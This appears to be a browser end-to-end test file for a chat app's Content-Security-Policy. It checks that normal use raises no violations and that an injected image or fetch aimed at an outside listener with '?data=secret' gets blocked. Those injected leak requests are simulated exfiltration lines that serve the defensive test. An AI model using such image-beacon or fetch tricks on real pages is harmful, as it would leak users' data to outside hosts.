"""The Content-Security-Policy in Chromium (chat/web/headers.py): a whole flow (sign in over
HTTP, a prompt, its streamed reply, the Copy button) breaks no rule of it, and an image from
another host is blocked by the browser itself even where Parley's text guard is bypassed."""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Any

import pytest

from chat.web.headers import CSP
from tests.conftest import PASSWORDS
from tests.e2e.conftest import Server
from tests.e2e.listener import Listener
from tests.fake_openai import FakeReply

pytestmark = pytest.mark.browser

CHAT_INPUT = "textarea[data-testid='stChatInputTextArea']"
COPY_JS = "/_stcore/bidi-components/parley.copy/copy.js"

# Every violation the page reports, in every document it loads (before any of its own scripts).
REPORT_VIOLATIONS = """
window.parleyViolations = [];
document.addEventListener("securitypolicyviolation", (event) => {
  const violation = {
    directive: event.effectiveDirective, blocked: event.blockedURI, source: event.sourceFile,
    sample: event.sample, document: event.documentURI,
  };
  window.parleyViolations.push(violation);
  window.parleyViolation(violation);
}, true);
"""


@dataclass
class Watch:
    """What the browser said about the policy: violation events and console messages."""

    violations: list[dict[str, Any]] = field(default_factory=list)
    console: list[str] = field(default_factory=list)
    responses: list[tuple[str, str, int, dict[str, str]]] = field(default_factory=list)

    def response(self, method: str, path: str) -> tuple[int, dict[str, str]]:
        """The status and headers of the first such response."""
        return next((status, headers) for m, p, status, headers in self.responses if (m, p) == (method, path))

    def csp_console(self) -> list[str]:
        return [text for text in self.console if "Content Security Policy" in text or "Content-Security-Policy" in text]


def watch(page) -> Watch:  # type: ignore[no-untyped-def]
    seen = Watch()
    page.context.expose_function("parleyViolation", lambda violation: seen.violations.append(violation))
    page.context.add_init_script(REPORT_VIOLATIONS)
    page.on("console", lambda message: seen.console.append(f"{message.type}: {message.text}"))
    page.on("pageerror", lambda error: seen.console.append(f"pageerror: {error}"))

    def remember(response) -> None:  # type: ignore[no-untyped-def]
        path = response.url.split("://", 1)[-1].partition("/")[2].partition("?")[0]
        seen.responses.append((response.request.method, "/" + path, response.status, response.headers))

    page.on("response", remember)
    return seen


def sign_in(page, server: Server, username: str = "alice") -> None:  # type: ignore[no-untyped-def]
    """Through the HTTP form, the way a person does."""
    page.goto(f"{server.url}/signin")
    page.locator("#username").fill(username)
    page.locator("#password").fill(PASSWORDS[username])
    page.locator("button[type=submit]").click()
    page.locator(CHAT_INPUT).wait_for()


def send(page, prompt: str) -> None:  # type: ignore[no-untyped-def]
    box = page.locator(CHAT_INPUT)
    box.fill(prompt)
    box.press("Enter")


def copy_drawn(page) -> None:  # type: ignore[no-untyped-def]
    """The reply has settled: its Copy button (the component's own) is on screen, once."""
    page.wait_for_function(
        """() => {
            const hosts = [...document.querySelectorAll("*")].filter((e) => e.shadowRoot);
            const buttons = [
                ...document.querySelectorAll("button"),
                ...hosts.flatMap((h) => [...h.shadowRoot.querySelectorAll("button")]),
            ].filter((b) => b.textContent.trim() === "Copy");
            return buttons.length === 1;
        }"""
    )


def test_sign_in_a_reply_and_copy_break_no_rule_of_the_policy(page, server: Server) -> None:  # type: ignore[no-untyped-def]
    seen = watch(page)
    page.context.grant_permissions(["clipboard-read", "clipboard-write"], origin=server.url)
    reply = "Here is **bold** text and code:\n\n```python\nprint('copied')\n```\n\nThe end."
    server.fake.enqueue(FakeReply(text=reply, delay=0.01))
    sockets: list[str] = []
    page.on("websocket", lambda socket: sockets.append(socket.url))

    sign_in(page, server)
    send(page, "Something to copy, please")
    copy_drawn(page)
    page.locator("pre code").first.wait_for()  # code blocks highlight lazily

    copy = page.locator("button", has_text="Copy").last
    copy.click()
    page.locator("button", has_text="Copied").wait_for()
    assert page.evaluate("navigator.clipboard.readText()") == reply

    # The policy was there all along, and the app worked under it.
    status, headers = seen.response("GET", "/signin")
    assert status == 200 and headers["content-security-policy"] == CSP and headers["cache-control"] == "no-store"
    status, headers = seen.response("POST", "/signin")  # the redirect into the app
    assert status == 303 and headers["content-security-policy"] == CSP
    status, headers = seen.response("GET", "/")
    assert status == 200 and headers["content-security-policy"] == CSP
    assert headers["x-content-type-options"] == "nosniff" and headers["referrer-policy"] == "same-origin"
    assert "strict-transport-security" not in headers  # plain HTTP
    status, headers = seen.response("GET", COPY_JS)  # the component's code, a file of Parley's origin
    assert status == 200 and "javascript" in headers["content-type"]
    assert any(url.endswith("/_stcore/stream") for url in sockets)  # connect-src 'self' lets it through

    # Reload: the page comes back from the server under the same policy, still clean.
    page.reload()
    copy_drawn(page)
    assert page.evaluate("window.parleyViolations") == []
    assert seen.violations == []
    assert seen.csp_console() == []


def test_an_outside_image_is_blocked_by_the_policy(page, server: Server, listener: Listener) -> None:  # type: ignore[no-untyped-def]
    # The control: without Parley's policy, the same browser does fetch the listener's image.
    other = page.context.new_page()
    other.set_content(f'<img src="{listener.url}/control.png">')
    other.wait_for_function("() => document.images[0].complete")
    other.close()
    assert listener.paths == ["/control.png"]
    listener.paths.clear()

    watch(page)
    server.fake.enqueue(FakeReply(text="A reply."))
    sign_in(page, server)
    # As if the text guard had let one through: an <img> drawn straight into the live page.
    leak = f"{listener.url}/leak.png?data=secret"
    with page.expect_console_message(lambda message: listener.url in message.text) as console:
        page.evaluate(
            """(url) => {
                const image = document.createElement("img");
                image.src = url;
                document.body.appendChild(image);
            }""",
            leak,
        )
    assert "Content Security Policy" in console.value.text and "img-src" in console.value.text
    # Chromium reports the violation (the event) and never asks the host.
    page.wait_for_function("(url) => window.parleyViolations.some((v) => v.blocked === url)", arg=leak)
    blocked = [item for item in page.evaluate("window.parleyViolations") if item["blocked"] == leak]
    assert blocked[0]["directive"] == "img-src"
    assert page.evaluate("(url) => [...document.images].some((i) => i.src === url && i.naturalWidth === 0)", leak)
    assert listener.paths == []
    # Fetching it from a script is refused too (connect-src 'self').
    refused = page.evaluate(
        "(url) => fetch(url).then(() => 'fetched', () => 'refused')", f"{listener.url}/leak-by-fetch?data=secret"
    )
    assert refused == "refused"
    assert listener.paths == []
